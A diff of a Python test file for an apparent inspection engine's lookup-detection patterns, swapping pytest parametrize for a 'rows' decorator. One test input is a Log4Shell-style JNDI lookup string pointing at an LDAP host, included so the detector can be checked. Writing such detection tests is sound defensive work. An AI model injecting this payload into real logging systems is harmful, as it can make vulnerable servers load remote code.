@@ -2,7 +2,7 @@ from __future__ import annotations
 
 from collections.abc import Callable
 
-import pytest
+from rows import rows
 
 from portcullis.engine.inspection.patterns.lookup import CLASS, PATTERNS
 
@@ -10,7 +10,7 @@ Ids = Callable[..., set[str]]
 MINE = {pattern.id for pattern in PATTERNS}
 
 
-@pytest.mark.parametrize(
+@rows(
     "text",
     [
         "${jndi:ldap://192.0.2.1/a}",
@@ -25,7 +25,7 @@ def test_a_lookup_is_found(text: str, ids: Ids) -> None:
     assert ids(text) & MINE
 
 
-@pytest.mark.parametrize(
+@rows(
     "text",
     [
         "${user}",
